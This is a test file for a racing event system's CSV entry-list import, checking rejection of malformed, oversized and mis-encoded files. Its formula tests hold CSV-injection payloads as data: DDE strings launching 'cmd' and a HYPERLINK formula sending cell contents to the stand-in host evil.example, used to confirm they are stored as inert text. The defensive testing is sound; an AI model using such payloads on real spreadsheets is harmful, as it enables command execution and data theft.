// Entry files that are damaged or made to do harm: each is stored as plain text or rejected with the reason.
import { Readable } from 'node:stream'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type AdminCall, createAdminCall } from '../../../admin/admin-testing'
import { entryList, events } from '../../../db/schema'
import { findOrCreateEvent } from '../../../races/event-store'
import { type TestServer, startTestServer } from '../../../testing/test-server'

let server: TestServer
let cookie: string
let call: AdminCall
let eventId: string

beforeAll(async () => {
  server = await startTestServer()
  cookie = await server.signIn('admin')
  call = createAdminCall(server, cookie, '/api/control')
})
afterAll(() => server.stop())

beforeEach(async () => {
  const { orm } = server.database
  await orm.delete(entryList)
  await orm.delete(events)
  eventId = (await findOrCreateEvent(orm, 2026, 'Superbikes at Barber')).id
})

const heading = 'No;Class;First name;Last name;Team'
const textOf = (...rows: string[]) => [heading, ...rows].join('\r\n')
const send = (step: 'preview' | 'import', file: Buffer, query = '') =>
  call('POST', `/events/${eventId}/entries/${step}${query}`, file)
const preview = async (file: Buffer) => (await send('preview', file)).json().data
const importFile = async (file: Buffer) => send('import', file, `?hash=${(await preview(file)).hash}`)
const listEntries = async () => (await call('GET', `/events/${eventId}/entries`)).json().entries

const mebibyte = 1024 ** 2
const toUtf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')

describe('C-032 files that cannot be read', () => {
  const row = '7;Superbike;Ana;Ortiz;Blue'
  const noText = 'This is not a text file. Choose a CSV file.'
  const utf16 = 'The file is encoded as UTF-16. Save it as CSV in UTF-8.'
  const notClosed = 'Line 2: The quote that opens on this line is not closed'
  test.each([
    ['is empty', Buffer.from(''), 'The file is empty'],
    ['has NUL characters', Buffer.from(textOf('7;Superbike;A\0;Ortiz;')), noText],
    ['is UTF-16 with a little-endian mark', toUtf16(textOf(row)), utf16],
    ['is UTF-16 with a big-endian mark', toUtf16(textOf(row)).swap16(), utf16],
    ['is UTF-16 without a mark', Buffer.from(textOf(row), 'utf16le'), noText],
    ['has 10,000 columns', Buffer.from('x,'.repeat(10_000)), 'Line 1: The line has more than 64 columns'],
    [
      'has 100,000 columns in one row',
      Buffer.from(textOf('7;'.repeat(100_000))),
      'Line 2: The line has more than 64 columns',
    ],
    ['has an open quote', Buffer.from(textOf('7;"A')), notClosed],
    ['is one endless quoted field', Buffer.from(textOf(`"${'x\n'.repeat(mebibyte / 2 - 100)}`)), notClosed],
    [
      'is one endless field of quotes',
      Buffer.from(textOf(`7;"${'""'.repeat(mebibyte / 2 - 100)}`)),
      notClosed,
    ],
    [
      'has a field of 1 MiB',
      Buffer.from(textOf(`7;${'x'.repeat(mebibyte - 100)}`)),
      'Line 2: A field is longer than 1000 characters',
    ],
  ])('a file that %s is 400 with the reason', async (_what, file, message) => {
    const response = await send('preview', file)
    expect([response.statusCode, response.json().message]).toEqual([400, message])
  })
})

describe('C-032 files that are too large', () => {
  test('a file of 64 MiB is 413, and requests that arrive meanwhile are answered', async () => {
    const [refused, listed] = await Promise.all([
      send('preview', Buffer.alloc(64 * mebibyte, 'x')),
      listEntries(),
    ])
    expect([refused.statusCode, refused.json().message]).toEqual([413, 'The file is larger than 1 MiB.'])
    expect(listed).toEqual([])
  })

  test('a file of 64 MiB is 413 when its size is not announced', async () => {
    let sent = 0
    const chunks = function* (): Generator<Buffer> {
      for (; sent < 64; sent += 1) yield Buffer.alloc(mebibyte, 'x')
    }
    const response = await server.request({
      method: 'POST',
      url: `/api/control/events/${eventId}/entries/preview`,
      cookie,
      headers: { 'content-type': 'text/csv', 'transfer-encoding': 'chunked' },
      payload: Readable.from(chunks()),
    })
    expect([response.statusCode, response.json().message]).toEqual([413, 'The file is larger than 1 MiB.'])
    expect(await listEntries()).toEqual([])
  })
})

describe('C-032 unusual files', () => {
  test('a file that is no UTF-8 is read as Latin-1', async () => {
    const file = Buffer.from(textOf('7;Superbike;Zoë;Müller;Équipe'), 'latin1')
    expect(await preview(file)).toMatchObject({ encoding: 'Latin-1', counts: { new: 1 } })
    await importFile(file)
    expect(await listEntries()).toMatchObject([{ firstName: 'Zoë', lastName: 'Müller', team: 'Équipe' }])
  })

  test('a file with a single byte that is no UTF-8 among UTF-8 is read as Latin-1', async () => {
    const file = Buffer.concat([Buffer.from(textOf('7;Superbike;Ana;Ortiz;')), Buffer.from([0xff])])
    expect(await preview(file)).toMatchObject({ encoding: 'Latin-1', rows: [{ number: '7' }] })
    await importFile(file)
    expect(await listEntries()).toMatchObject([{ lastName: 'Ortiz', team: 'ÿ' }])
  })

  test('a file with carriage returns only has its lines', async () => {
    await importFile(Buffer.from([heading, '7;Superbike;Ana;Ortiz;', '8;Superbike;Ben;Rossi;'].join('\r')))
    expect(await listEntries()).toMatchObject([{ lastName: 'Ortiz' }, { lastName: 'Rossi' }])
  })

  test('a file is accepted as text/csv and rejected as another type', async () => {
    const post = (type: string) =>
      server.request({
        method: 'POST',
        url: `/api/control/events/${eventId}/entries/preview`,
        cookie,
        headers: { 'content-type': type },
        payload: Buffer.from(textOf('7;Superbike;Ana;Ortiz;')),
      })
    expect((await post('text/csv; charset=utf-8')).statusCode).toBe(200)
    const image = await post('image/png')
    expect([image.statusCode, image.json().message]).toEqual([
      415,
      'Please send the file itself (Content-Type: text/csv)',
    ])
  })
})

describe('C-032 formulas', () => {
  test.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Ana")',
    '@SUM(1+1)*cmd',
    '+cmd|calc',
    '-2+3',
    '=1+1',
  ])('the formula %s is stored as the text that it is', async formula => {
    const quoted = `"${formula.replaceAll('"', '""')}"`
    const response = await importFile(Buffer.from(textOf(`7;Superbike;;${quoted};${quoted}`)))
    expect(response.statusCode).toBe(201)
    expect(await listEntries()).toMatchObject([{ firstName: '', lastName: formula, team: formula }])
  })

  test.each(['=1+1', '-7'])('the formula %s is no number of a rider', async formula => {
    const { rows } = await preview(Buffer.from(textOf(`${formula};Superbike;;Ortiz;`)))
    const message = `Number ${formula} must be 1 to 20 letters and digits`
    expect(rows).toMatchObject([{ status: 'error', problems: [{ column: 1, message }] }])
  })
})
